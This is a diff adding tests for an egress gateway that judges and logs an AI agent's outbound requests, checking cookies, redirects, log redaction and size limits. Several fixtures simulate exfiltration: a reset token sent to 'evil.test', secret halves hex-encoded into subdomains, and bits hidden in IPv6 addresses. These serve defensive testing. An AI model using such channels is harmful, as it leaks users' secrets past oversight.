@@ -1,7 +1,10 @@
 """The way out, against servers on this machine: nothing passes that was not judged and logged."""
 
 import asyncio
+import base64
+import hashlib
 import json
+import re
 
 import pytest
 from places import SECRET, Names, gateway, places, policy
@@ -10,6 +13,7 @@ from posttrain.files import WriteError
 from posttrain.guard.audit import AuditLog, records
 from posttrain.guard.egress.facts import Request
 from posttrain.guard.egress.policy import Content, Destinations, Provenance, Redirects, Session
+from posttrain.guard.egress.resolver import StaticResolver
 from posttrain.guard.egress.transport import TransportError
 from posttrain.trajectory import Passage, ToolCall
 
@@ -367,3 +371,195 @@ def test_a_call_without_a_url_is_a_sentence():
                 await way.request(ToolCall("fetch_url", {"href": "x"}))
 
     run(story)
+
+
+def test_cookies_are_not_kept_for_the_next_request():
+    """Two hosts behind one address: what the first sets would go to the second, unjudged."""
+
+    async def story(found):
+        async with gateway(found, policy(("api.test", "b.test"))) as way:
+            for url in ("http://api.test/", "http://b.test/", "http://api.test/"):
+                await way.request(get(url, session=url))
+        return [headers.get("cookie") for _, _, _, headers, _ in found.seen]
+
+    assert run(story, {"api.test/": (200, {"set-cookie": "id=private; Path=/"}, b"")}) == [None, None, None]
+
+
+@pytest.mark.parametrize("path", ["/a/../b", "/a/./b", "//x/y", "/%zz?", "/a%2fb?x=%41&y='[]"])
+def test_the_path_that_was_judged_is_the_one_that_is_sent(path):
+    async def story(found):
+        async with gateway(found) as way:
+            await way.request(get(f"http://api.test{path}"))
+        return [path for _, _, path, _, _ in found.seen]
+
+    assert run(story) == [path.rstrip("?")]
+
+
+def test_report_follows_no_redirects_for_ever():
+    async def story(found):
+        rules = policy(mode="report", redirects=Redirects(hops=3))
+        async with gateway(found, rules) as way:
+            return await asyncio.wait_for(way.request(get("http://api.test/go")), 10), len(found.seen)
+
+    outcome, requests = run(story, {"api.test/go": (302, {"location": "/go"}, b"")})
+    assert (requests, outcome.verdicts[-1].rule) == (5, "redirects.hops")
+
+
+def test_a_redirect_may_hold_a_colon():
+    async def story(found):
+        async with gateway(found) as way:
+            await way.request(get("http://api.test/go"))
+        return [path for _, _, path, _, _ in found.seen]
+
+    assert run(story, {"api.test/go": (302, {"location": "/a:b?at=x:y"}, b"")}) == ["/go", "/a:b?at=x:y"]
+
+
+def test_an_answer_holds_only_for_what_was_asked():
+    """Both halves of a secret wait for a person; when one has left, the other has another question."""
+    asked = []
+
+    async def story(found):
+        go = asyncio.Event()
+
+        async def ask(verdict, _request):
+            asked.append({finding.rule for finding in verdict.findings})
+            await go.wait()
+            return "session.coverage" not in asked[-1]
+
+        rules = policy(unknown="ask", content=OFF, session=Session(coverage="ask", unknown_bits=1e9, unknown_total=1e9))
+        async with gateway(found, rules, ask=ask) as way:
+            halves = [
+                asyncio.create_task(way.request(get(f"http://new.test/{half}"))) for half in (SECRET[:11], SECRET[12:])
+            ]
+            await asyncio.sleep(0.05)
+            go.set()
+            return [(await half).allowed for half in halves]
+
+    assert run(story) == [True, False]
+    assert asked == [{"destinations.unknown"}, {"destinations.unknown"}, {"session.coverage"}]
+
+
+SAME = policy(unknown="allow", session=Session(unknown_bits=1e9, unknown_total=1e9))
+
+
+@pytest.mark.parametrize("code", [str, str.lower, lambda s: base64.b64encode(s.encode()).decode(), lambda s: s[::-1]])
+@pytest.mark.parametrize(
+    "request_",
+    [
+        lambda s: Request(s, "http://api.test/"),
+        lambda s: get("http://api.test/", session=s),
+        lambda s: get("http://api.test/", call=s),
+        lambda s: get(f"http://{s.encode().hex()}.com/"),
+        lambda s: get(f"http://api.test/?{s}=a1b2c3d4e5f6g7h8"),
+        lambda s: get("http://api.test/", headers=((s, "a1b2c3d4e5f6g7h8"),)),
+    ],
+    ids=["method", "session", "call", "site", "query", "header"],
+)
+def test_no_field_of_the_log_holds_a_secret(request_, code, tmp_path):
+    part = SECRET[:11]
+
+    async def story(found):
+        async with gateway(found, SAME, log=tmp_path / "log.jsonl") as way:
+            await way.admit(request_(code(part)))
+
+    run(story)
+    text = (tmp_path / "log.jsonl").read_text()
+    assert not {code(part), code(part).lower(), part.encode().hex()} & set(re.split(r"[^A-Za-z0-9]+", text))
+
+
+def test_no_field_of_the_log_is_long_or_unprintable(tmp_path):
+    long = "x\n\x1b[2J" * 10_000
+    spans = [Passage.whole(f"{'http://api.test/ ' * 10_000}", f"preview:{long}"), Passage.whole("api.test", "user")]
+
+    async def story(found):
+        async with gateway(found, log=tmp_path / "log.jsonl") as way:
+            for request in (
+                get("http://api.test/", session=long, call=long),
+                Request("X" * 10_000, "http://api.test/"),
+            ):
+                await way.admit(request, spans)
+
+    run(story)
+    for line in (tmp_path / "log.jsonl").read_text().splitlines():
+        assert len(line) < 5_000
+        assert all(text.isprintable() for text in strings(json.loads(line)))
+
+
+def strings(value):
+    """All texts in a JSON value."""
+    if isinstance(value, str):
+        return [value]
+    inside = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
+    return [text for one in inside for text in strings(one)]
+
+
+def test_what_fails_after_it_was_admitted_is_hidden_too(tmp_path):
+    name = f"{SECRET[:11].encode().hex()}.api.test"
+
+    async def story(found):
+        resolver = StaticResolver({})
+        async with gateway(found, policy(("*.api.test",)), log=tmp_path / "log.jsonl", resolver=resolver) as way:
+            await way.request(get(f"http://{name}/"))
+
+    run(story)
+    assert [line["facts"]["host"] for line in records(tmp_path / "log.jsonl") if "facts" in line] == ["*.api.test"] * 2
+
+
+def test_a_restart_finds_the_pattern_of_a_host_that_was_hidden(tmp_path):
+    async def story(found):
+        rules = policy(("*.api.test",), content=OFF)
+        for _ in range(2):
+            async with gateway(found, rules, log=tmp_path / "log.jsonl") as way:
+                await way.request(get(f"http://{SECRET[:8].lower()}.api.test/"))
+        return set(way.sessions.account("default").bits)
+
+    assert run(story) == {"*.api.test"}
+
+
+def test_links_to_other_places_may_be_private():
+    async def story(found):
+        texts = [Passage.whole("Reset it: https://bank.test/reset/J8sK2lQ9xW7eR4tY6uI1oP3aS5dF0gH2", "tool:read_mail")]
+        async with gateway(found, policy(unknown="allow")) as way:
+            return await way.request(get("http://evil.test/J8sK2lQ9xW7eR4tY6uI1oP3aS5dF0gH2"), texts)
+
+    assert run(story).verdicts[-1].rule == "session.novelty"
+
+
+def test_addresses_are_a_channel_with_a_budget():
+    """Who owns a network reads 64 bits in every address of it."""
+
+    async def story(found):
+        async with gateway(found, policy(unknown="allow")) as way:
+            sent = 0
+            for i in range(200):
+                low = hashlib.sha256(bytes([i])).hexdigest()[:16].replace("0", "1")
+                url = f"http://[2600:1f00::{':'.join(low[n : n + 4] for n in range(0, 16, 4))}]/"
+                sent += (await way.admit(get(url)))[1] is not None
+        return sent
+
+    assert 64 * run(story) <= Session().unknown_total
+
+
+@pytest.mark.parametrize("mode", ["enforce", "open"])
+@pytest.mark.parametrize(
+    ("more", "rule"),
+    [({"body": b"%61" * 400_000}, "limits.body"), ({"headers": (("x", "%61" * 20_000),)}, "limits.head")],
+)
+def test_what_is_too_large_is_denied_without_a_look(more, rule, mode, monkeypatch):
+    monkeypatch.setattr("posttrain.guard.egress.look.views", None)
+
+    async def story(found):
+        async with gateway(found, policy(mode=mode)) as way:
+            return await way.request(Request("POST", "http://api.test/", **more))
+
+    assert run(story).verdicts[-1].rule == rule
+
+
+@pytest.mark.parametrize("mode", ["report", "open"])
+def test_what_leads_nowhere_is_not_logged_as_sent(mode, tmp_path):
+    async def story(found):
+        async with gateway(found, policy(mode=mode), log=tmp_path / "log.jsonl") as way:
+            return await way.request(get("http://user@api.test/"))
+
+    assert not run(story).allowed
+    assert [line["sent"] for line in records(tmp_path / "log.jsonl") if "facts" in line] == [False]
